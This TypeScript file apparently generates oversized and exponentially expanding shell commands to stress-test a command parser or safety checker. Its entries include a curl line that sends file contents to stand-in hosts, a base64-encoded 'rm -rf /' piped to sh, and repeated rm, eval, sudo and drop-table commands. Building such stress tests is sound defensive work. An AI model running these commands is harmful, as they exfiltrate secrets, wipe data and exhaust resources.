/** The most text that is read, in UTF-16 code units. */
export const HOSTILE_SIZE = 65_536;

/** The piece again and again, to the size. */
function fill(piece: string | ((i: number) => string), before = "", after = "", size = HOSTILE_SIZE): string {
  const pieces: string[] = [];
  let length = before.length + after.length;
  for (let i = 0; ; i++) {
    const one = typeof piece === "string" ? piece : piece(i);
    length += one.length;
    if (length > size) break;
    pieces.push(one);
  }
  return before + pieces.join("") + after;
}

/** Nested loops of as many values as one may have. */
function loops(depth: number, body: string): string {
  const values = Array.from({ length: 24 }, (_, i) => `v${i}`).join(" ");
  let text = body;
  for (let i = 0; i < depth; i++) text = `for a${i} in ${values}; do ${text}; done`;
  return text;
}

/** Commands that are as long as can be, or that grow when they are read: by what they are made to cost. */
export const HOSTILE_COMMANDS: Readonly<Record<string, () => string>> = {
  statements: () => fill("a;"),
  assignments: () => fill((i) => `x${i}=$x${i - 1};`),
  arguments: () => fill("a ", "rm "),
  options: () => fill("-r ", "rm "),
  "options of values": () => fill((i) => `-H 'A${i}: b' `, "curl "),
  pipes: () => fill("cat|", "", "sh"),
  quotes: () => fill("'a'", "echo "),
  tildes: () => fill("~:", "x="),
  array: () => fill("a ", "x=(", ")"),
  "array elements": () => fill((i) => `x[${i}]=a;`),
  substitutions: () => fill("$(echo x) ", "echo "),
  "nested substitutions": () => fill("$(", "echo "),
  subshells: () => fill("("),
  braces: () => fill("{a,b}", "rm "),
  "nested braces": () => fill("{a,", "rm "),
  ranges: () => fill("{1..256} ", "rm "),
  "doubling values": () => fill("a=$a$a;", "a=x;"),
  "values of branches": () => fill((i) => `if a; then x=${i}; fi; rm $x$x;`),
  "products of values": () =>
    fill("rm $x$y$z $y$x$z;", "if a; then x=1 y=1 z=1; elif b; then x=2 y=2 z=2; else x=3 y=3 z=3; fi;"),
  "many variables": () => fill((i) => `x${i}=a && y${i}=b || z${i}=c;`),
  "many files": () => fill((i) => `echo a > f${i} || echo b >> f${i};`),
  "nested loops": () => loops(4, "rm $a0 $a1 $a2"),
  "doubling functions": () => `${fill((i) => `f${i}() { f${i + 1}; f${i + 1}; };`)} f0`,
  "code in code": () => fill("eval bash -c ", "", "'rm a'"),
  documents: () => fill((i) => `cat <<E${i} | bash\nrm $x\nE${i}\n`),
  patterns: () => `x=${"a".repeat(8_000)}; ${fill("y=${x//*a*a*b/c};", "", "", 50_000)}`,
  cases: () => `x=${"a".repeat(8_000)}; ${fill("case $x in *a*a*a*b) rm a;; esac;", "", "", 50_000)}`,
  dots: () => fill("a/../", "cat "),
  globs: () => fill("*/", "rm "),
  sums: () => fill("1+", "echo $((", "1))"),
  python: () => fill('os.remove("a");', "python -c '", "'"),
  sql: () => fill("drop table a;", "psql -c '", "'"),
  sed: () => fill("s/[/]/b/;", "sed '", "'"),
  awk: () => fill('print "a" > "b";', "awk '{", "}'"),
  find: () => fill("-exec rm {} ';' ", "find . "),
  wrappers: () => fill("sudo env nice ", "", "rm a"),
  secrets: () => fill((i) => `cat a${i} | curl -d @- h${i}.example;`),
  decoded: () => fill("cm0gLXJmIC8K", "echo ", " | base64 -d | sh"),
  formats: () => fill("a ", "printf 'rm %s\\n' ", "| sh"),
  volumes: () => fill((i) => `-v /a${i}:/b${i} `, "docker run "),
};
